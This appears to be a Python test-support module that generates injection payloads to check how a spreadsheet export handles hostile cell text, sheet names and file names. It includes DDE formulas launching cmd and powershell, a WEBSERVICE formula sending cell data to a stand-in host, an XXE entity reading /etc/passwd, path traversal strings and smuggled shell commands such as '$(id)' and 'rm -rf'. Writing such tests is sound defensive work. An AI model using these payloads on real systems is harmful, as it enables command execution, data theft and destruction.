"""What a stranger may write into a cell, a sheet's name or a file's, so that it does something there."""

# ruff: noqa: E501 - the payloads stand side by side

from __future__ import annotations

import re
import unicodedata
from random import Random

LONGEST = 32_767  # UTF-16 units in a cell of Excel

# {n} tells one payload from another, whatever reading makes of the rest.
FORMULAS = (
    "={n}+1", "+{n}+1", "-{n}-1", "@SUM({n})", "=SUM(A{n}:B9)", "＝{n}+1", "＋{n}+1", "－{n}-1", "＠SUM({n})",
    "=cmd|' /C calc{n}'!A0", "+cmd|'/C powershell {n}'!A0", "@SUM(1+9)*cmd|' /C calc{n}'!A0", 'DDE("cmd";"/C {n}")',
    '=HYPERLINK("http://x.cn/{n}","click")', '=WEBSERVICE("http://x.cn/?{n}="&A1)', '=IMPORTXML("http://x.cn/{n}","//a")',
    "='file:///etc/[passwd{n}]Sheet1'!A1", "='\\\\10.0.0.1\\share\\[{n}.xlsx]S'!A1", "{{={n}+1}}", "=-+@{n}",
    "\t={n}+1", "\r={n}+1", "\n={n}+1", " ={n}+1", "\u00a0={n}+1", "\u3000＝{n}+1", "\ufeff={n}+1", "'={n}+1",
    '";={n}+1;"', "a,={n}+1", "a\t={n}\r\n=1+1", "#REF!{n}", "http://x.cn/{n}", "mailto:x{n}@x.cn",
    "external:x{n}.xlsx", "internal:Sheet1!A{n}", "file://{n}/etc/passwd", "{n}|=1",
)  # fmt: skip
MARKUP = (
    "<f>1+{n}</f>", "</t></si></sst>{n}", "<r><t>{n}</t></r>", "<![CDATA[{n}]]>", "]]>{n}", "&lt;{n}&gt;", "&{n};",
    "&#x0;{n}", "&#61;{n}", "<!ENTITY x{n} SYSTEM 'file:///etc/passwd'>", "<?xml version='1.0'?>{n}", "<!--{n}-->",
    "\"'><hyperlink r:id='{n}'/>", "' onload='{n}", "_x003D_{n}", "_x0041_x0042_{n}", "_x005F_x0041_{n}", "_x0000_{n}",
    "_xD83D_{n}", "__x0001__{n}", "&L&G{n}", '&"Wingdings,Bold"&99{n}', "{{0}}{n}", "{{region}}{n}", "%s%n{n}", "${{{n}}}",
    "[red]{n}[/red]", "[link=http://x.cn]{n}[/link]", "[/]{n}", "[bold {n}", "\\[red]{n}", ":warning:{n}",
)  # fmt: skip
SIGNS = (
    "\u202e{n}xslx.exe", "{n}\u2066=1\u2069", "\u200b={n}", "a\u200d{n}", "\u200f{n}\u200e", "\u2028{n}\u2029x",
    "\x00{n}", "\x01={n}\x1f", "\x1b[31m{n}\x1b[0m", "\x1b]8;;http://x.cn\x07{n}\x1b]8;;\x07", "\x1b[2J{n}", "\x9b31m{n}",
    "\x7f{n}\x85", "\b\b\b{n}", "a\rb{n}", "a\r\nb{n}", "a\nb{n}", "\ufffe{n}", "{n}\uffff", "\ufffd{n}", "\ud83d{n}",
    "{n}\udc00x", "😀{n}", "e\u0301{n}", "\u2126{n}", "ﬁ{n}", "①{n}", "ｶﾞ{n}",
)  # fmt: skip
PATHS = (
    "..{n}", "../{n}", "../../../tmp/{n}", "..\\..\\{n}", "/etc/{n}", "C:\\{n}", "\\\\x\\y\\{n}", "a/b/{n}", "a:b{n}", "[{n}]",
    "{n}]A1", "'{n}'", "''{n}", "*{n}?", "<{n}>|", "CON.{n}", "con.{n}", "COM1.{n}", "NUL .{n}", "LPT¹.{n}", "AUX.tar.{n}",
    "{n}.", "{n} ", "{n}...", ".{n}", "~${n}", "-{n}", "#{n}", "%2e%2e%2f{n}", "a%{n}", "?{n}=1", "{n}#S'!A1", "$(id){n}",
    "`{n}`", "{n};rm -rf", "{n}\n/x", "desktop.ini{n}",
)  # fmt: skip
FAMILIES = (*FORMULAS, *MARKUP, *SIGNS, *PATHS)


def texts(count: int, seed: int) -> list[str]:
    """Return different payloads: every family in turn, from the second turn on two of them in one text, some too long."""
    random, found = Random(seed), []  # noqa: S311 - the same every time
    for number in range(count):
        text = FAMILIES[number % len(FAMILIES)].format(n=f"n{number:04}")
        if number >= len(FAMILIES):
            text += random.choice((" ", "", "\n", ",")) + random.choice(FAMILIES).format(n=f"m{number:04}")
        if number % 97 == 96:
            text += random.choice("a审😀=") * random.choice((LONGEST, LONGEST + 1, 100_000))
        found.append(text)
    return found


def units(text: str) -> int:
    """Return how many of a cell's places a text takes."""
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def whole(text: str) -> str:
    """Return a text as a cell holds it: what is no character stands there as Excel's file spells it, `_xD83D_`."""
    return re.sub("[\ud800-\udfff\ufffe\uffff]", lambda found: f"_x{ord(found[0]):04X}_", text)


def text_kept(text: str) -> str:
    """Return what a column of text keeps (domain.md §3): all but the spaces around it."""
    return whole(text).strip()


def code_kept(text: str) -> str:
    """Return what a column of codes keeps (domain.md §3): NFKC, without spaces and signs that nobody sees."""
    folded = unicodedata.normalize("NFKC", whole(text))
    return "".join(sign for sign in folded if not sign.isspace() and unicodedata.category(sign) not in {"Cf", "Cc"})
